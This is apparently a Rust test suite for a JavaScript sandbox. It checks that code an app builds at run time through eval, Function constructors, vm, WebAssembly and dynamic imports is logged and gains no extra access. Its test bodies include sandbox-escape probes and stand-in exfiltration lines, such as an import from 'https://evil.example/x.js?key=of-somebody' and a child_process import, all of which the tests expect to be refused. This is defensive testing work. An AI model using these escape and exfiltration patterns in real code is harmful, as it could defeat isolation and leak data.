//! Code an app makes at run time: it has no more ways out than the app, and that there is some is written down.

use assay_sandbox::{Answer, EngineKind, Guard, Guards, Options, Package, Record, Verdict};
use libtest_mimic::Trial;
use serde_json::json;

use crate::{
    held_by,
    support::{READ, World, manifest, rules},
    trial,
};

/// A way to make code: a function's body that does so and gives 2; what the record names; whether it is refused.
struct Way {
    name: &'static str,
    body: &'static str,
    subject: &'static str,
    in_quickjs: Option<Verdict>,
    in_node: Option<Verdict>,
}

const fn done(name: &'static str, body: &'static str, subject: &'static str) -> Way {
    Way { name, body, subject, in_quickjs: Some(Verdict::Allow), in_node: Some(Verdict::Allow) }
}

const WAYS: &[Way] = &[
    done("eval_with_its_scope", "const own = 1; return eval('own + 1');", "eval"),
    done("eval_by_another_name", "const other = eval; return other('1 + 1');", "eval"),
    done(
        "eval_by_its_property",
        "return Object.getOwnPropertyDescriptor(globalThis, 'eval').get()('2');",
        "eval",
    ),
    done("a_function", "return Function('return 2')();", "Function"),
    done("a_new_function", "return new Function('a', 'return a')(2);", "Function"),
    done("the_constructor_of_a_function", "return (() => {}).constructor('return 2')();", "Function"),
    done("an_asynchronous_function", "return (async () => {}).constructor('return 2')();", "Function"),
    done("a_generator", "return (function* () {}).constructor('yield 2')().next().value;", "Function"),
    done(
        "an_asynchronous_generator",
        "return (await (async function* () {}).constructor('yield 2')().next()).value;",
        "Function",
    ),
    done(
        "the_constructor_behind_a_constructor",
        "return Object.getPrototypeOf((async () => {}).constructor)('return 2')();",
        "Function",
    ),
    done("a_class_of_functions", "class Own extends Function {} return new Own('return 2')();", "Function"),
    done("reflection", "return Reflect.construct(Function, ['return 2'], class {})();", "Function"),
    Way {
        name: "patched_surroundings",
        body: "Reflect.apply = Reflect.construct = JSON.stringify = null;
            String.prototype.toWellFormed = Array.prototype[Symbol.iterator] = () => { throw 1; };
            Object.prototype.get = Object.prototype.apply = (target) => target;
            Object.defineProperty(Array.prototype, '0', { set() {} });
            Error.prepareStackTrace = () => { throw 2; };
            globalThis.Proxy = globalThis.String = null;
            return Function('return 2')();",
        subject: "Function",
        in_quickjs: Some(Verdict::Allow),
        in_node: None,
    },
    Way {
        name: "a_timer",
        body: "try { setTimeout('1', 1); } catch {} try { setImmediate('1'); } catch {} return 2;",
        subject: "a timer with a text",
        in_quickjs: Some(Verdict::Deny),
        in_node: None,
    },
    Way {
        name: "vm",
        body: "try { return require('vm').runInThisContext('2'); } catch { return 2; }",
        subject: "vm",
        in_quickjs: Some(Verdict::Deny),
        in_node: Some(Verdict::Allow),
    },
    Way {
        name: "a_script_of_vm",
        body: "try { return new (require('vm').Script)('2').runInThisContext(); } catch { return 2; }",
        subject: "vm",
        in_quickjs: Some(Verdict::Deny),
        in_node: Some(Verdict::Allow),
    },
    Way {
        name: "web_assembly",
        body: "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 2;",
        subject: "WebAssembly",
        in_quickjs: None,
        in_node: Some(Verdict::Allow),
    },
    Way {
        name: "an_import_of_data",
        body: "try { return (await import('data:text/javascript,export default 2')).default; } catch { return 2; }",
        subject: "import of data:",
        in_quickjs: Some(Verdict::Deny),
        in_node: Some(Verdict::Allow),
    },
    Way {
        name: "an_import_from_a_host",
        body: "try { return await import('https://evil.example/x.js?key=of-somebody'); } catch { return 2; }",
        subject: "import of https://evil.example",
        in_quickjs: Some(Verdict::Deny),
        in_node: Some(Verdict::Deny),
    },
];

/// What an app with this code gave, with these guards.
fn run(code: String, engine: EngineKind, guards: Guards) -> (World, assay_sandbox::Installation, Answer) {
    let world = World::with(Options { guards, engine, ..Options::default() });
    let package = Package { manifest: manifest(READ, ""), code, ..Package::default() };
    world.platform.deploy("production", &package, "a developer").unwrap();
    let it = world.install("production", "alpha");
    let answer = world.invoke(&it, None, json!({}));
    (world, it, answer)
}

fn handler(body: &str) -> String {
    format!("exports.index = {{ run: async ({{ call }}) => {{ {body} }} }};")
}

fn code(records: &[Record]) -> Vec<&Record> {
    records.iter().filter(|it| it.kind == "code").collect()
}

pub(crate) fn trials() -> Vec<Trial> {
    let has_node = std::process::Command::new("node").arg("--version").output().is_ok();
    let engines = [(EngineKind::QuickJs, "quickjs"), (EngineKind::Node, "node")];
    let mut trials = Vec::new();
    for (engine, word) in engines {
        let is_missing = engine == EngineKind::Node && !has_node;
        for way in WAYS {
            let Some(verdict) = (if word == "node" { way.in_node } else { way.in_quickjs }) else { continue };
            let name = format!("code::h58_{}_is_written_down_in_{word}", way.name);
            let is_held = move |guards| {
                let (_, _, answer) = run(handler(way.body), engine, guards);
                assert_eq!(answer.value().unwrap(), &json!(2), "{answer:?}");
                let told = code(&answer.decisions);
                let text = serde_json::to_string(&told).unwrap();
                assert!(!text.contains("return 2") && !text.contains("of-somebody"), "{text}");
                let is_it = |it: &Record| (it.subject.as_str(), it.verdict) == (way.subject, verdict);
                told.first()
                    .is_some_and(|it| is_it(it) && it.invocation.is_some() && it.engine == Some(engine))
            };
            trials.push(held_by(&name, Guard::CodeMade, is_held).with_ignored_flag(is_missing));
        }
        let name = format!("code::h58_what_is_made_while_loading_is_told_apart_and_once_in_{word}");
        trials.push(
            trial(name, move || {
                let top = "Function('return this')(); Function('return 1')();";
                let (world, it, answer) = run(
                    format!("{top}{}", handler("return Function('return 2')();")),
                    engine,
                    Guards::default(),
                );
                let told = code(&answer.decisions);
                let loading: Vec<bool> = told.iter().map(|it| it.invocation.is_none()).collect();
                assert_eq!(loading, [true, true, false], "{told:#?}");
                assert_eq!(
                    told.iter().map(|it| it.is_harmless_code()).collect::<Vec<_>>(),
                    [true, false, false]
                );
                assert!(told[1].remarks.contains(&"while the app was loaded".to_owned()), "{:?}", told[1]);
                assert!(told[2].remarks[0].starts_with("8 bytes, SHA-256 "), "{:?}", told[2].remarks);
                let again = world.invoke(&it, None, json!({}));
                assert_eq!(code(&again.decisions).len(), 1, "{again:#?}");
                assert_eq!(code(&world.platform.decisions().unwrap()).len(), 4);
            })
            .with_ignored_flag(is_missing),
        );
        let name = format!("code::h58_of_many_the_first_are_told_and_the_others_counted_in_{word}");
        trials.push(
            trial(name, move || {
                let body = "for (let at = 0; at < 100000; at += 1) Function('return ' + at); return 2;";
                let (_, _, answer) = run(handler(body), engine, Guards::default());
                assert_eq!(answer.value().unwrap(), &json!(2));
                let told = code(&answer.decisions);
                assert_eq!((told.len(), told[20].subject.as_str()), (21, "more"));
                assert_eq!(told[20].remarks, ["and 99980 more, of which nothing else was written down"]);
            })
            .with_ignored_flag(is_missing),
        );
    }
    trials.push(trial("code::h58_no_module_is_imported_and_what_is_evaluated_has_no_more_ways", || {
        let body = "const tried = []; for (const from of ['data:text/javascript,export default 1', 'https://evil.example/x.js', 'node:child_process', './other.js']) { try { await import(from); tried.push('imported'); } catch { tried.push('refused'); } } const answer = await eval(\"__forge_fetch__({ type: 'egress' }, 'https://evil.example/', {})\"); return { tried, status: answer.status };";
        let (_, _, answer) = run(handler(body), EngineKind::QuickJs, Guards::default());
        assert_eq!(
            answer.value().unwrap(),
            &json!({ "tried": ["refused", "refused", "refused", "refused"], "status": 403 })
        );
        assert_eq!(rules(&answer), ["code-made", "code-made", "egress-not-declared"]);
    }));
    trials
}
